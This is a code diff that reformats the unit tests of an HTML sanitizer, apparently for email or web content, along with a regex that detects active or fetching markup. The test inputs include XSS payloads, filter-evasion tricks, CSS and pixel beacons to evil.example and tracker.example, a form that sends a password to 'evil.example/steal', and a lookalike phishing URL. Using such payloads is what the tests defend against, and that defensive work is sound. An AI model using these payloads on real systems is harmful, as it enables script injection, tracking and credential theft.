@@ -12,8 +12,9 @@ namespace {
 
 // Every URL-like reference left in the output (attributes that make a browser fetch or navigate).
 bool fetches_or_runs(const std::string& html) {
-  static const std::regex bad(R"re((<script|<iframe|<object|<embed|<svg|<math|<link|<meta http|<base|<form|<style|\son\w+\s*=|\s(href|src|action|formaction|background|srcset|poster|data)\s*=\s*"(?!data:image/)|javascript:|url\())re",
-                              std::regex::icase);
+  static const std::regex bad(
+      R"re((<script|<iframe|<object|<embed|<svg|<math|<link|<meta http|<base|<form|<style|\son\w+\s*=|\s(href|src|action|formaction|background|srcset|poster|data)\s*=\s*"(?!data:image/)|javascript:|url\())re",
+      std::regex::icase);
   return std::regex_search(html, bad);
 }
 
@@ -35,13 +36,15 @@ TEST(Sanitize, ScriptsHandlersAndActiveElementsAreGone) {
       "<style>body{background:url(https://evil.example/t.gif)}</style>",
       "<div style=\"background-image:url(https://evil.example/t.gif)\">x</div>",
       "<div style=\"background:u\\72l(https://evil.example/t.gif)\">x</div>",
-      "<form action=\"https://evil.example/steal\"><input name=p type=password><button>go</button></form>",
+      "<form action=\"https://evil.example/steal\"><input name=p "
+      "type=password><button>go</button></form>",
       "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
       "<template><script>alert(1)</script></template>",
       "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
       "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>",
       "<table background=\"https://tracker.example/bg.gif\"><tr><td>x</td></tr></table>",
-      "<video poster=\"https://evil.example/p.jpg\"><source src=\"https://evil.example/v.mp4\"></video>",
+      "<video poster=\"https://evil.example/p.jpg\"><source "
+      "src=\"https://evil.example/v.mp4\"></video>",
       "<img srcset=\"https://evil.example/a.png 1x\">",
       "<p>unclosed <b>bold <i>both</b> tail",
       "<scr<script>ipt>alert(1)</script>",
@@ -55,13 +58,21 @@ TEST(Sanitize, ScriptsHandlersAndActiveElementsAreGone) {
 
 TEST(Sanitize, TextAndFormattingSurvive) {
   const SanitizedHtml s = sanitize_html(
-      "<html><head><title>t</title></head><body><p style=\"color:red;font-weight:bold\">お支払い &amp; 確認</p>"
-      "<table border=1><tr><td colspan=2>セル</td></tr></table><a href=\"https://login.example.co.jp.verify.net/\">ログイン</a>"
+      "<html><head><title>t</title></head><body><p style=\"color:red;font-weight:bold\">お支払い "
+      "&amp; 確認</p>"
+      "<table border=1><tr><td colspan=2>セル</td></tr></table><a "
+      "href=\"https://login.example.co.jp.verify.net/\">ログイン</a>"
       "<img alt=\"logo\" src=\"data:image/png;base64,iVBORw0KGgo=\"></body></html>");
-  EXPECT_NE(s.html.find("<p style=\"color:red;font-weight:bold\">お支払い &amp; 確認</p>"), std::string::npos) << s.html;
+  EXPECT_NE(s.html.find("<p style=\"color:red;font-weight:bold\">お支払い &amp; 確認</p>"),
+            std::string::npos)
+      << s.html;
   EXPECT_NE(s.html.find("<td colspan=\"2\">セル</td>"), std::string::npos) << s.html;
   // Links keep their text; the target is shown defanged, never followed.
-  EXPECT_NE(s.html.find("<a title=\"link: hxxps://login[.]example[.]co[.]jp[.]verify[.]net/\">ログイン</a>"), std::string::npos) << s.html;
+  EXPECT_NE(
+      s.html.find(
+          "<a title=\"link: hxxps://login[.]example[.]co[.]jp[.]verify[.]net/\">ログイン</a>"),
+      std::string::npos)
+      << s.html;
   EXPECT_NE(s.html.find("src=\"data:image/png;base64,iVBORw0KGgo=\""), std::string::npos) << s.html;
   EXPECT_EQ(s.html.find("<title>"), std::string::npos);
   EXPECT_TRUE(s.remote.empty());
